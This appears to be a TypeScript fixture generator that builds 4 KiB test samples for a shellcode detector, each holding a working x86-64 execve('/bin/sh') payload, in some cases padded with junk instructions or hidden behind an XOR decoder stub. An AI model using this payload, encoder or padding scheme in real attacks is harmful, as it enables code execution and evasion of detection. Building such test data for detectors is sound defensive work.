/** Samples as an alarm brings them: 4 KiB of which the start is code, most of it behind a decoder. */

const PAGE = 4096;

/** xor edx, edx; push rdx; mov rbx, "//bin/sh"; push rbx; push rsp; pop rdi; push rdx; push rdi; push rsp; pop rsi; push 59; pop rax; syscall */
const PAYLOAD = Buffer.from('31d25248bb2f2f62696e2f73685354 5f5257545e6a3b580f05'.replaceAll(' ', ''), 'hex');

/** Instructions that change nothing that the payload needs. */
const FILLERS = [
  '4885c0',
  '4c8d4424f0',
  '4d01c1',
  '49ffc2',
  '4983f207',
  '4d0fafc8',
  '4c89d0',
  '49c1ea03',
  '450fb6c9',
  '4d39c8',
  '66450f6fc9',
  '6690',
  '4152415a',
].map((hex) => Buffer.from(hex, 'hex'));

/** A small seeded generator, so that every run has the same samples. */
function generator(seed: number): () => number {
  let state = seed;
  return () => {
    state ^= state << 13;
    state ^= state >>> 17;
    state ^= state << 5;
    return state >>> 0;
  };
}

function fillers(next: () => number, count: number): Buffer {
  return Buffer.concat(
    Array.from({ length: count }, () => FILLERS[next() % FILLERS.length] ?? Buffer.alloc(0)),
  );
}

/** lea rsi, [rip+n]; mov ecx, length; xor byte [rsi], key; inc rsi; dec ecx; jnz */
function decoder(key: number, length: number): Buffer {
  const head = Buffer.from('488d3500000000b900000000', 'hex');
  const loop = Buffer.from([0x80, 0x36, key, 0x48, 0xff, 0xc6, 0xff, 0xc9, 0x75, 0xf6]);
  head.writeInt32LE(head.length - 7 + loop.length, 3);
  head.writeInt32LE(length, 8);
  return Buffer.concat([head, loop]);
}

/** One third plain code, one third behind an xor decoder, one third long straight code. */
export function makeSamples(count: number): Uint8Array[] {
  const next = generator(20_251_122);
  return Array.from({ length: count }, (_, index) => {
    const page = Buffer.alloc(PAGE);
    for (let at = 0; at < PAGE; at += 4) page.writeUInt32LE(next(), at);
    const code = [
      () => Buffer.concat([fillers(next, 8 + (next() % 24)), PAYLOAD]),
      () => {
        const key = 1 + (next() % 255);
        const encoded = PAYLOAD.map((byte) => byte ^ key);
        return Buffer.concat([fillers(next, 4 + (next() % 12)), decoder(key, encoded.length), encoded]);
      },
      () => Buffer.concat([fillers(next, 200 + (next() % 60)), PAYLOAD]),
    ][index % 3];
    page.set(code === undefined ? PAYLOAD : code());
    return page;
  });
}
